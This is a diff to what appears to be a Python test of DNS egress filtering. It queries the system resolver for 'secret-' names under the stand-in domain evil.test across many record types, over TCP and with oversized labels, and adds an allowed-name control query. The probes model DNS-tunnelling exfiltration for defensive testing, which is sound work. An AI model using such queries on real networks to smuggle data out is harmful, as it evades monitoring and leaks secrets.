@@ -29,6 +29,7 @@ with open("/etc/resolv.conf") as file:
     RESOLVER = [line.split()[1] for line in file if line.startswith("nameserver")][0]
 for kind, name in ((1, "A"), (28, "AAAA"), (16, "TXT"), (255, "ANY"), (65, "HTTPS"), (64, "SVCB"), (10, "NULL"), (5, "CNAME"), (15, "MX")):
     step(f"the resolver, {name}", lambda: ask(RESOLVER, f"secret-{name.lower()}.evil.test", kind))
+step("the resolver, by TCP, an allowed name", lambda: ask(RESOLVER, "good.test", transport="tcp"))
 step("the resolver, by TCP", lambda: ask(RESOLVER, "secret-tcp.evil.test", transport="tcp"))
 step("the resolver, a label of 63", lambda: ask(RESOLVER, f"{'s' * 63}.evil.test"))
 step("the resolver, four labels of 50", lambda: ask(RESOLVER, ".".join(["s" * 50] * 4) + ".evil.test"))
